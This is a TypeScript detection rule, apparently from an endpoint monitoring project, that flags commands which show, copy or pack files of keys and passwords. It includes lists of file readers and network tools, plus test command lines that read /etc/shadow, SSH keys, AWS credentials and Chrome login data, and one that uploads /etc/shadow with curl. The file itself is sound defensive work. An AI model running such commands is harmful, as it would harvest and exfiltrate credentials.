import { type Command, commandsOf, isProgram } from '../../src/detect/reading/command.ts'
import { meantPath } from '../../src/detect/reading/paths.ts'
import {
  asTyped,
  isProgramStart,
  mentions,
  PROGRAM_START_TABLES,
  shortened,
  toldProgram,
} from '../../src/detect/reading/program-start.ts'
import { anyOf } from '../../src/detect/reading/words.ts'
import { joining, rule, table } from '../../src/detect/rule.ts'
import { SECRET_FILES } from '../data/secret-files.ts'

/** Programs that show, copy or pack a file. Those that use a key as a key (ssh, aws, kubectl) are not among them. */
const READERS = [
  'cat',
  'less',
  'more',
  'head',
  'tail',
  'tac',
  'nl',
  'grep',
  'egrep',
  'rg',
  'awk',
  'sed',
  'strings',
  'xxd',
  'od',
  'hexdump',
  'base64',
  'base32',
  'cp',
  'dd',
  'tar',
  'zip',
  '7z',
  'gzip',
  'cpio',
  'sqlite3',
  'python',
  'perl',
  'ruby',
] as const
/** Programs that carry a file away. */
const SENDERS = [
  'curl',
  'wget',
  'nc',
  'ncat',
  'netcat',
  'scp',
  'sftp',
  'rsync',
  'rclone',
  'ftp',
  'tftp',
  'socat',
] as const

/** Asked first: almost no line holds any of it, and reading one as a shell does costs fifty times as much. */
const SECRETS = anyOf(...SECRET_FILES.endings)

export default rule({
  id: 'posix.reads-secrets',
  title: 'Command reads a file of keys or passwords',
  severity: 'medium',
  on: joining(table(...PROGRAM_START_TABLES), 'parent_path'),
  attack: ['T1552.001', 'T1552.004', 'T1555.003', 'T1003.008'],
  // Looking into a file of one's own is daily work; several kinds within the hour is somebody who collects.
  threshold: 3,
  unique: ({ columns }) => read(columns.cmdline)?.file ?? null,
  dedup: ({ hostId, columns }) => `${hostId} ${columns.uid}`,
  detect: ({ columns }) =>
    isProgramStart(columns) && mentions(columns.cmdline, SECRETS) && read(columns.cmdline) !== null,
  alertTitle: ({ host, columns }) => `Files of keys are read on ${host}: ${shortened(columns.cmdline)}`,
  context: ({ columns }) => ({ ...toldProgram(columns), secret: read(columns.cmdline)?.file }),
  means:
    'One account read three different files of keys and passwords within an hour, by commands that show, copy or pack them. That is how somebody collects what opens the next door.',
  check:
    "SELECT time, pid, parent, path, cmdline, auid FROM process_events WHERE cmdline LIKE '%/.ssh/%' OR cmdline LIKE '%/.aws/%' OR cmdline LIKE '%/etc/shadow%' ORDER BY time DESC LIMIT 50;",
  benign: "Backups, a move to a new machine, checks of security staff, setting up a developer's machine.",
  runbook:
    'Whose account, and what for? If nobody knows: rotate what was read (SSH keys, cloud keys, tokens), look in the logs of those services for their use, and isolate the host.',
  references: [
    'https://attack.mitre.org/techniques/T1552/001/',
    'https://attack.mitre.org/techniques/T1552/004/',
  ],
  tests: [
    {
      name: 'the keys of a cloud',
      match: true,
      table: 'process_events',
      columns: {
        path: '/usr/bin/cat',
        cmdline: 'cat /home/ada/.aws/credentials',
        uid: '1000',
        pid: '7',
        parent: '1',
        cwd: '/',
      },
      title: 'Files of keys are read on test-host: cat /home/ada/.aws/credentials',
      dedup: 'test-host-id 1000',
      severity: 'medium',
      unique: '/home/ada/.aws/credentials',
      context: {
        program: '/usr/bin/cat',
        command: 'cat /home/ada/.aws/credentials',
        pid: '7',
        parent: '1',
        folder: '/',
        uid: '1000',
        euid: '',
        login: '',
        time: '',
        secret: '/home/ada/.aws/credentials',
      },
    },
    {
      name: 'packed',
      match: true,
      table: 'bpf_process_events',
      columns: { cmdline: 'tar czf /tmp/a.tgz /root/.ssh/id_rsa /etc/shadow' },
      unique: '/root/.ssh/id_rsa',
    },
    {
      name: 'passwords of a browser, on a Mac',
      match: true,
      table: 'es_process_events',
      columns: {
        event_type: 'exec',
        cmdline: 'cp /Users/ada/Library/Application Support/Google/Chrome/Default/Login Data /tmp/l',
      },
      unique: '/Login Data',
    },
    {
      name: 'a key is used',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'ssh -i /home/ada/.ssh/id_ed25519 example.com' },
    },
    {
      name: 'made safe',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'chmod 600 /home/ada/.ssh/id_rsa' },
    },
    {
      name: 'a public key',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'cat /home/ada/.ssh/id_rsa.pub' },
    },
    {
      name: 'an ordinary file',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'cat /etc/hosts' },
    },
    {
      name: "sent away, which is worse and another rule's",
      match: false,
      table: 'process_events',
      columns: { cmdline: 'curl -T /etc/shadow https://example.com' },
    },
    {
      name: 'the process ends',
      match: false,
      table: 'es_process_events',
      columns: { event_type: 'exit', cmdline: 'cat /etc/master.passwd' },
    },
    {
      name: 'the row leaves the result',
      match: false,
      action: 'removed',
      table: 'process_events',
      columns: { cmdline: 'cat /etc/shadow' },
    },
  ],
})

/** The secret that the line shows or copies, and null when there is none or it is sent away. */
function read(cmdline: string): { readonly file: string } | null {
  const commands = commandsOf(asTyped(cmdline))
  if (commands.some(command => isProgram(command, ...SENDERS))) return null
  const reader = commands.find(command => isProgram(command, ...READERS) && secretOf(command) !== null)
  const file = reader === undefined ? null : secretOf(reader)
  return file === null ? null : { file }
}

function secretOf({ args }: Command): string | null {
  const file = args.map(meantPath).find(path => SECRET_FILES.endings.some(ending => path.endsWith(ending)))
  if (file !== undefined) return file
  // Names with a blank in them lost their quotes.
  const line = ` ${args.join(' ')} `
  return SECRET_FILES.endings.find(ending => ending.includes(' ') && line.includes(`${ending} `)) ?? null
}
